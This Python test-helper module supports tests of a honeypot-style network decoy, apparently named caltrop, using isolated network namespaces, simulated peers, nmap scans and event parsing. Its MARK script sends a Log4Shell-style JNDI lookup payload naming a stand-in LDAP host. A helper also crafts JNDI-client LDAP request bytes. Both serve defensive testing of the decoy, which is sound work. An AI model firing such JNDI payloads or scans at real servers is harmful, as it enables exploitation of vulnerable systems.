"""What the decoy's tests share: network namespaces of their own, a decoy in one of them, peers in others, and what it said."""
import ctypes
import json
import os
import pathlib
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import unittest

CALTROP = os.path.abspath(sys.argv[1])
SKIP = 77
PATIENCE = 120  # seconds until a test gives up: nothing waits for so long where all is well, and machines differ


def run(*command, check=True, **options):
    done = subprocess.run([str(c) for c in command], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, timeout=4 * PATIENCE,
                          check=False, text=True, errors="replace", **options)
    if check and done.returncode:
        raise AssertionError(f"{command}: {done.returncode}: {done.stdout[-2000:]}")
    return done.stdout


def until(what, condition, seconds=PATIENCE):
    """Waits for a condition, never for a time; the seconds are when it is given up."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        got = condition()
        if got:
            return got
        time.sleep(0.02)
    raise AssertionError(f"never came: {what}")


def free_port():
    """Below those that the kernel gives to whoever asks for any: of them, another test could take it before it is listened on."""
    end = int(pathlib.Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split()[0])
    while True:
        port = random.randrange(10_000, max(end, 10_001))
        try:
            with socket.socket() as s:
                s.bind(("", port))
                return port
        except OSError:
            continue


def until_alive(process, out, said):
    """Waits for a decoy's first heartbeat in the file out; said() gives what it complained of, should it end before."""
    def alive():
        if process.poll() is not None:
            raise AssertionError(f"it ended with {process.returncode}: {said()}")
        return '"alive"' in out.read_text()

    until("a heartbeat", alive)


def need_root():
    """Exit status 77 with the reason last, where this machine does not let us have namespaces."""
    for program in ("ip", "nft", "nmap"):
        if not shutil.which(program):
            print(f"{program} is not installed")
            sys.exit(SKIP)
    if os.geteuid() != 0:
        print("needs root, for network namespaces")
        sys.exit(SKIP)
    if subprocess.run(["unshare", "--net", "true"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False).returncode:
        print("no network namespaces here")
        sys.exit(SKIP)


LIBC = ctypes.CDLL(None)
PR_SET_PDEATHSIG = 1
US = os.getpid()


def with_us():
    """For Popen: what is started so ends with this program, however that ends; and a namespace without a name ends with the last process in it.
    Done before the exec, so there is no moment when Popen has returned and it does not hold yet."""
    LIBC.prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
    if os.getppid() != US:
        os._exit(1)


class Namespace:
    """A network of its own, held by one process; with the /sys that belongs to it."""

    def __init__(self):
        self.holder = subprocess.Popen(["unshare", "--net", "--mount", "--propagation", "slave", "sh", "-c",
                                        "mount -t sysfs sysfs /sys && ip link set lo up && echo ready && exec sleep infinity"],
                                       stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True, preexec_fn=with_us)
        self.pid = self.holder.pid
        if self.holder.stdout.readline() != "ready\n":
            raise AssertionError("no namespace")
        self.inside = ("nsenter", f"--net=/proc/{self.pid}/ns/net", f"--mount=/proc/{self.pid}/ns/mnt")

    def close(self):
        own = os.readlink(f"/proc/{self.pid}/ns/net")
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if os.readlink(f"/proc/{pid}/ns/net") == own:
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass  # gone meanwhile
        self.holder.wait()
        self.holder.stdout.close()


class Network:
    """A host, where the decoy is, and peers on one wire with it: 10.9.0.1 and fd09::1, then .2 and up. `inside` is a container behind the host."""

    def __init__(self, peers=1, inside=False):
        self.host, self.peers, self.inside = Namespace(), [Namespace() for _ in range(peers)], Namespace() if inside else None
        h = self.host
        self.on(h, "ip", "link", "add", "br0", "type", "bridge", "mcast_snooping", "0")
        for i, peer in enumerate(self.peers):
            self.on(h, "ip", "link", "add", f"v{i}", "type", "veth", "peer", "name", "eth0", "netns", peer.pid)
            self.on(h, "ip", "link", "set", f"v{i}", "master", "br0", "up")
            self.on(peer, "ip", "addr", "add", f"10.9.0.{i + 2}/24", "dev", "eth0")
            self.on(peer, "ip", "addr", "add", f"fd09::{i + 2}/64", "dev", "eth0", "nodad")
            self.on(peer, "ip", "link", "set", "eth0", "up")
        self.on(h, "ip", "addr", "add", "10.9.0.1/24", "dev", "br0")
        self.on(h, "ip", "addr", "add", "fd09::1/64", "dev", "br0", "nodad")
        self.on(h, "ip", "link", "set", "br0", "up")
        # Where the kernel sends what passes a bridge through the rules of IP as well, diverting would not work on its own address.
        self.on(h, "sh", "-c", "test ! -e /proc/sys/net/bridge || sysctl -qw net.bridge.bridge-nf-call-iptables=0 net.bridge.bridge-nf-call-ip6tables=0")
        if inside:
            self.on(h, "ip", "link", "add", "c0", "type", "veth", "peer", "name", "eth0", "netns", self.inside.pid)
            self.on(h, "ip", "addr", "add", "10.8.0.1/24", "dev", "c0")
            self.on(h, "ip", "link", "set", "c0", "up")
            self.on(self.inside, "ip", "addr", "add", "10.8.0.2/24", "dev", "eth0")
            self.on(self.inside, "ip", "link", "set", "eth0", "up")
            self.on(self.inside, "ip", "route", "add", "default", "via", "10.8.0.1")
            self.on(h, "sysctl", "-qw", "net.ipv4.ip_forward=1")
        for peer in self.peers:  # both ways of the wire, so that each has the other's link address: a scanner asks once, and gives up
            for address in ("10.9.0.1", "fd09::1"):
                code = "import socket\ntry: socket.create_connection((%r, 9), 1)\nexcept OSError as e: print(e)" % address
                until(f"the wire to {address}", lambda: "refused" in self.on(peer, sys.executable, "-c", code))

    @staticmethod
    def on(name, *command, **options):
        return run(*name.inside, *command, **options)

    @staticmethod
    def start(name, *command, **options):
        return subprocess.Popen([*name.inside, *[str(c) for c in command]], stdin=subprocess.DEVNULL, preexec_fn=with_us, **options)

    def close(self):
        for name in (self.host, *self.peers, *([self.inside] if self.inside else [])):
            name.close()


# A datagram with a payload, of which is told at once, and a request; from an address of its own.
MARK = """
import socket, sys
source = sys.argv[1]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((source, 0))
s.sendto(b"${jndi:ldap://mark.example/" + source.encode() + b"}", ("10.9.0.1", 9))
try:
    with socket.create_connection(("10.9.0.1", 8080), 20, (source, 0)) as c:
        c.sendall(b"GET /mark HTTP/1.0\\r\\n\\r\\n")
        while c.recv(65536): pass
except OSError as e:
    print(e)  # nobody answers there
"""


class Decoy:
    METRICS = 9777
    may_die = False

    def __init__(self, network, folder, *options):
        self.network, self.folder, self.marks = network, pathlib.Path(folder), []
        self.out, self.err = open(self.folder / "events", "wb"), open(self.folder / "said", "wb")
        self.process = network.start(network.host, CALTROP, "decoy", "--json", "--data-dir", self.folder / "data", "--metrics", self.METRICS, *options,
                                     stdout=self.out, stderr=self.err)

    def said(self):
        return (self.folder / "said").read_text()

    def events(self):
        return [json.loads(line) for line in (self.folder / "events").read_text().split("\n")[:-1]]

    def states(self):
        return [e["caltrop"]["state"] for e in self.events() if "state" in e["caltrop"]]

    def actors(self, source=None):
        return [e for e in self.events() if "news" in e["caltrop"] and (e["source"]["ip"] == source if source else e["source"]["ip"] not in self.marks)]

    def contacts(self):
        path = self.folder / "data/decoy/contacts.ndjson"
        lines = [json.loads(line) for line in path.read_text().split("\n")[:-1]] if path.exists() else []
        return [c for c in lines if c["source"]["ip"] not in self.marks]

    def alive(self):
        until("the first heartbeat:" + self.said(), lambda: "alive" in self.states() or self.process.poll() is not None)
        if self.process.poll() is not None:
            raise AssertionError(self.said())
        return self

    def counts(self):
        page = self.network.on(self.network.host, "curl", "-s", "-m", "60", f"http://127.0.0.1:{self.METRICS}/metrics")
        return {name: int(value) for name, value in re.findall(r"^caltrop_decoy_(\w+) (\d+)$", page, re.M)}

    def quiet(self):
        """Until it has taken in what there was: what comes later in the same queues has come to its end."""
        peer, mark = self.network.peers[0], f"10.9.0.{201 + len(self.marks)}"
        self.network.on(peer, "ip", "addr", "replace", f"{mark}/24", "dev", "eth0")
        self.marks.append(mark)

        def told():
            return any(e["source"]["ip"] == mark for e in self.events() if "news" in e["caltrop"])

        def sent():
            self.network.on(peer, sys.executable, "-c", MARK, mark)
            end = time.monotonic() + 1
            while not told() and time.monotonic() < end:
                time.sleep(0.02)
            return told()
        until("the mark of the end", sent)

    def stop(self, status=0):
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
        got = self.process.wait(PATIENCE)
        self.out.close()
        self.err.close()
        if status is not None and (got != status or ("died" in self.said() and not self.may_die)):
            raise AssertionError((got, self.said()))


class DecoyCase(unittest.TestCase):
    peers, inside = 1, False

    def setUp(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="caltrop-decoy-"))
        self.network = Network(self.peers, self.inside)
        self.host, self.peer = self.network.host, self.network.peers[0]
        self.decoys, self.started = [], []

    def tearDown(self):
        for decoy in self.decoys:
            if decoy.process.poll() is None:
                decoy.process.kill()
            decoy.process.wait()
        for process in self.started:
            process.kill()
            process.wait()
        self.network.close()
        shutil.rmtree(self.folder)

    def decoy(self, *options):
        self.decoys.append(Decoy(self.network, self.folder, *options))
        return self.decoys[-1].alive()

    def begin(self, name, *command, **options):
        options.setdefault("stdout", subprocess.DEVNULL)
        options.setdefault("stderr", subprocess.DEVNULL)
        self.started.append(self.network.start(name, *command, **options))
        return self.started[-1]

    def server(self, name, port, text):
        """A real service that greets with a text."""
        code = ("import socket\ns=socket.create_server(('',%d))\nwhile True:\n c,_=s.accept()\n c.sendall(b'%s\\n')\n c.close()" % (port, text))
        process = self.begin(name, sys.executable, "-c", code)
        until(f"a listener on {port}", lambda: f":{port} " in self.network.on(name, "ss", "-Hltn"))
        return process

    def says(self, name, host, port, send=b"", timeout=30):
        """What a port says to one who connects: bytes, or the name of the failure."""
        code = ("import socket,sys\ntry:\n s=socket.create_connection((%r,%d),%d)\n s.sendall(%r)\n s.shutdown(1)\n d=b''\n"
                " while True:\n  p=s.recv(4096)\n  if not p: break\n  d+=p\n sys.stdout.buffer.write(b'+'+d)\n"
                "except OSError as e: print(type(e).__name__)" % (host, port, timeout, send))
        return self.network.on(name, sys.executable, "-c", code)

    def nmap(self, *options, target="10.9.0.1", name=None):
        return self.network.on(name or self.peer, "nmap", "-n", "-Pn", "--max-retries", "1", *options, target)


def ports_of(text):
    """"1-3,7" -> {1, 2, 3, 7}"""
    ports = set()
    for part in text.split(","):
        first, _, last = part.partition("-")
        ports.update(range(int(first), int(last or first) + 1))
    return ports


def ldap_search(base):
    """A bind, and a search for a base DN, as a JNDI client sends them."""
    dn = base.encode()
    body = bytes([4, len(dn)]) + dn + bytes.fromhex("0a01000a0100020100020100010100870b6f626a656374436c6173733000")
    message = b"\x02\x01\x02\x63" + bytes([len(body)]) + body
    return bytes.fromhex("300c020101600702010304008000") + b"\x30" + bytes([len(message)]) + message


def main():
    del sys.argv[1:2]
    need_root()
    unittest.main(verbosity=1)


__all__ = ["CALTROP", "Decoy", "DecoyCase", "PATIENCE", "Network", "ldap_search", "main", "need_root", "ports_of", "run", "socket", "until"]
